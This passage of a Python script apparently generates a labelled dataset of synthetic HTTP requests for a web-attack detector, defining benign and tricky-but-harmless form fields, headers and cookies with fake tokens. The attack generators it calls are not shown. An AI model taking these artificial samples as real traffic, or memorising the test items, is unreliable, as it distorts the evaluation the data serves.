            "Hello,\r\nI ordered the oak lamp (#48213) but it says 'delivered' and nothing arrived.\r\n\r\nThanks,\r\nMary",
            "Hi team;\r\nCan you check order #1234?\r\n-- \r\nSent from my iPhone",
            'Dear support,\r\nThe page shows <error 500> when I click "Pay".\r\nBrowser: Firefox 125\r\nRegards',
            "Hi,\r\nPlease cancel & refund; I was charged twice (2 x 49.99).\r\nCheers",
        ]
    )
    return B(
        "form",
        m,
        "www.lumenhome.store",
        "/contact",
        client="browser",
        form=[("name", R.choice(NAMES)), ("email", email_for(R.choice(NAMES))), ("message", MARK)],
    )


def frmh_address():
    a = R.choice(
        [
            "123 O'Farrell St. Apt #4 & 5",
            "Flat 2/1, 15 Byres Rd",
            'Unit 7-B; Building "C"',
            "P.O. Box 42 -- c/o Reception",
            "Rua 25 de Abril, 3º Esq.",
        ]
    )
    return B(
        "form",
        a,
        "shop.northwind-outfitters.com",
        "/checkout/shipping",
        client="browser",
        form=[("first_name", "Pat"), ("address1", MARK), ("city", R.choice(CITIES)), ("zip", rdigits(5))],
    )


def frmh_email():
    e = R.choice(
        [
            "jane+news@gmail.com",
            "o'brien.s@eircom.net",
            "first.last+tag-2024@sub.example.co.uk",
            '"john doe"@example.org',
            "user%example.com@example.org",
        ]
    )
    return B("form", e, "www.lumenhome.store", "/newsletter/subscribe", client="browser", form=[("email", MARK)])


def frmh_feedback():
    t = R.choice(
        [
            "The new checkout is 10/10 <3 but the 'Apply coupon' button is hidden on mobile...",
            'Search for "drop earrings" returns nothing; "earrings" works fine.',
            "Love it!!! ;-) Only wish: dark mode & keyboard shortcuts (Ctrl+K?)",
            "1 = terrible, 5 = great -> I'd say 4.",
        ]
    )
    return B(
        "json",
        t,
        "survey.helpdeskly.com",
        "/api/feedback",
        client="browser",
        json={"score": R.randint(1, 5), "comment": MARK},
    )


FORM_H = [frmh_password, frmh_name, frmh_textarea, frmh_address, frmh_email, frmh_feedback]

# ------------------------------------------------------------------- benign_headers
SEC_CH = [
    '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
    '"Microsoft Edge";v="123", "Not:A-Brand";v="8", "Chromium";v="123"',
]
HDR_SITES = [
    ("shop.northwind-outfitters.com", "/products/trail-runner-2"),
    ("www.lumenhome.store", "/collections/lighting"),
    ("online.harborfirst-bank.com", "/accounts/overview"),
    ("app.taskgrid.io", "/projects/412/board"),
]


def browser_hdrs(host, skip=()):
    h = [
        ("Accept-Language", R.choice(LANGS)),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Referer", "https://%s/" % host),
        ("Sec-Fetch-Dest", "document"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Sec-Fetch-Site", "same-origin"),
        ("Upgrade-Insecure-Requests", "1"),
        ("sec-ch-ua", R.choice(SEC_CH)),
        ("sec-ch-ua-mobile", "?0"),
        ("sec-ch-ua-platform", R.choice(['"Windows"', '"macOS"', '"Linux"'])),
    ]
    return [(k, v) for k, v in h if k not in skip]


def hdr_xff():
    ips = R.sample(PUBLIC_IPS, R.randint(1, 3))
    host, path = R.choice(HDR_SITES)
    return B(
        "header",
        ", ".join(ips),
        host,
        path,
        client="browser",
        hname="X-Forwarded-For",
        noextra=True,
        hdrs=browser_hdrs(host) + [("X-Forwarded-Proto", "https")],
    )


def hdr_referer():
    host, path = R.choice(HDR_SITES)
    r = R.choice(
        [
            "https://www.google.com/",
            "https://duckduckgo.com/",
            "https://%s/search?q=lamp&page=2" % host,
            "https://t.co/" + ralnum(10),
            "https://www.bing.com/search?q=trail+running+shoes&form=QBLH",
        ]
    )
    return B(
        "header", r, host, path, client="browser", hname="Referer", noextra=True, hdrs=browser_hdrs(host, ("Referer",))
    )


def hdr_secch():
    host, path = R.choice(HDR_SITES)
    v = R.choice(SEC_CH)
    return B(
        "header",
        v,
        host,
        path,
        client="browser",
        hname="sec-ch-ua",
        noextra=True,
        hdrs=browser_hdrs(host, ("sec-ch-ua",)),
    )


def hdr_mobile():
    v = R.choice(["5.12.0 (5120041)", "2.8.4+build.771", "24.18.1", "3.0.0-rc.2"])
    return B(
        "header",
        v,
        "api.smartlockly.com",
        "/v1/locks",
        client="api",
        hname="X-App-Version",
        noextra=True,
        hdrs=[
            ("X-Device-Model", R.choice(["iPhone15,3", "Pixel 8", "SM-S911B"])),
            ("X-OS-Version", R.choice(["17.4.1", "14", "13"])),
            ("Authorization", "Bearer " + fake_jwt({"sub": rdigits(7)})),
        ],
    )


def hdr_trace():
    v = "00-%s-%s-01" % (rhex(32), rhex(16))
    return B(
        "header",
        v,
        "api.taskgrid.io",
        "/v1/tasks",
        client="api",
        hname="traceparent",
        noextra=True,
        hdrs=[("X-Request-ID", ruuid()), ("Authorization", "Bearer " + fake_jwt({"sub": rdigits(7)}))],
    )


def hdr_cookie():
    host, path = R.choice(HDR_SITES)
    v = R.choice(["en-GB", "de-CH", "fr-FR"])
    return B(
        "cookie",
        v,
        host,
        path,
        client="browser",
        noextra=True,
        hdrs=browser_hdrs(host),
        cookies=[
            ("_ga", "GA1.2.%s.%s" % (rdigits(10), rdigits(10))),
            ("locale", MARK),
            ("cookie_consent", "analytics%3Dtrue%26ads%3Dfalse"),
            ("session_id", ralnum(32)),
        ],
    )


def hdr_bot():
    u = R.choice(
        [
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.91 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        ]
    )
    host, path = R.choice(HDR_SITES)
    return B("header", u, host, path, client="browser", hname="User-Agent", noextra=True)


HDR_N = [hdr_xff, hdr_referer, hdr_secch, hdr_mobile, hdr_trace, hdr_cookie, hdr_bot]


def hdrh_cookie_json():
    host, path = R.choice(HDR_SITES)
    v = json.dumps(
        {"items": [{"sku": "SKU-%s" % rdigits(5), "qty": R.randint(1, 3)}], "coupon": None}, separators=(",", ":")
    )
    return B(
        "cookie",
        v,
        host,
        path,
        client="browser",
        noextra=True,
        hdrs=browser_hdrs(host),
        cookies=[("cart", MARK), ("sid", ralnum(26))],
    )


def hdrh_etag():
    v = R.choice(['W/"5e15153d-120f"', '"33a64df551425fcc55e4d42a148795d9f25f89d4"', 'W/"0815"', '"xyzzy", "r2d2xxxx"'])
    return B(
        "header",
        v,
        "cdn.lumenhome.store",
        "/assets/app.%s.js" % rhex(8),
        client="browser",
        hname="If-None-Match",
        noextra=True,
    )


def hdrh_forwarded():
    v = R.choice(
        [
            'for="[%s]:4711";proto=https;by=203.0.113.43' % R.choice(PUBLIC_IP6),
            "for=%s;proto=https, for=%s" % tuple(R.sample(PUBLIC_IPS, 2)),
            'for=%s;host="shop.northwind-outfitters.com";proto=https' % R.choice(PUBLIC_IPS),
        ]
    )
    return B("header", v, "shop.northwind-outfitters.com", "/", client="browser", hname="Forwarded", noextra=True)


def hdrh_aws():
    v = (
        "AWS4-HMAC-SHA256 Credential=AKIA%s/20240502/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, "
        "Signature=%s"
    ) % (ralnum(16).upper(), rhex(64))
    return B(
        "header",
        v,
        "ledgerline-exports.s3.eu-west-1.amazonaws.com",
        "/2024/05/export.csv",
        client="api",
        hname="Authorization",
        noextra=True,
        hdrs=[("x-amz-date", "20240502T101500Z"), ("x-amz-content-sha256", hashlib.sha256(b"").hexdigest())],
    )


def hdrh_prefer():
    v = R.choice(
        [
            'return=representation; include="http://www.w3.org/ns/ldp#PreferMinimalContainer"',
            "respond-async, wait=10",
            'odata.maxpagesize=50; odata.include-annotations="*"',
        ]
    )
    return B("header", v, "api.meridianpay.io", "/odata/v4/Payments", client="api", hname="Prefer", noextra=True)


def hdrh_xff6():
    v = "%s, %s" % (R.choice(PUBLIC_IP6), R.choice(PUBLIC_IPS))
    return B("header", v, "api.chirpnest.social", "/v2/timeline", client="api", hname="X-Forwarded-For", noextra=True)


def hdrh_accept():
    v = R.choice(
        [
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
            "application/vnd.github+json",
            "application/json;q=0.9, text/plain;q=0.5, */*;q=0.1",
            'application/ld+json; profile="https://www.w3.org/ns/activitystreams"',
        ]
    )
    return B("header", v, "api.chirpnest.social", "/users/maya_g", client="api", hname="Accept", noextra=True)


def hdrh_range():
    v = R.choice(["bytes=0-1023", "bytes=1048576-", "bytes=0-0,-1", "bytes=500-999, 1500-1999"])
    return B(
        "header", v, "cdn.lumenhome.store", "/videos/lamp-assembly.mp4", client="browser", hname="Range", noextra=True
    )


def hdrh_consent():
    host, path = R.choice(HDR_SITES)
    v = (
        "{stamp:%27"
        + b64(rhex(24))
        + "%27%2Cnecessary:true%2Cpreferences:true%2Cstatistics:false%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1}"
    )
    return B(
        "cookie",
        v,
        host,
        path,
        client="browser",
        noextra=True,
        hdrs=browser_hdrs(host),
        cookies=[("CookieConsent", MARK), ("sid", ralnum(26))],
        safe="{}:,'",
    )


HDR_H = [
    hdrh_cookie_json,
    hdrh_etag,
    hdrh_forwarded,
    hdrh_aws,
    hdrh_prefer,
    hdrh_xff6,
    hdrh_accept,
    hdrh_range,
    hdrh_consent,
]

BENIGN_TABLE = [
    ("benign_finance", 74, FIN_N, FIN_H),
    ("benign_education", 74, EDU_N, EDU_H),
    ("benign_travel", 74, TRV_N, TRV_H),
    ("benign_social", 74, SOC_N, SOC_H),
    ("benign_analytics", 74, ANA_N, ANA_H),
    ("benign_code_snippets", 73, CODE_N, CODE_H),
    ("benign_richtext", 73, RT_N, RT_H),
    ("benign_search", 73, SRCH_N, SRCH_H),
    ("benign_graphql", 73, GQLB_N, GQLB_H),
    ("benign_files", 73, FILES_N, FILES_H),
    ("benign_urls", 73, URL_N, URL_H),
    ("benign_base64", 73, B64_N, B64_H),
    ("benign_api_json", 73, API_N, API_H),
    ("benign_forms", 73, FORM_N, FORM_H),
    ("benign_headers", 73, HDR_N, HDR_H),
]


def main():
    for cat, normal, hard in ATTACK_TABLE:
        gen_attacks(cat, normal, hard)
    for kind, n, normal, hard in BENIGN_TABLE:
        gen_benign(kind, n, normal, hard)
    with open(OUT, "w", encoding="utf-8", newline="\n") as fh:
        for row in ROWS:
            fh.write(json.dumps(row, ensure_ascii=False, separators=(", ", ": ")) + "\n")
    print("wrote %d rows to %s" % (len(ROWS), OUT))


if __name__ == "__main__":
    main()
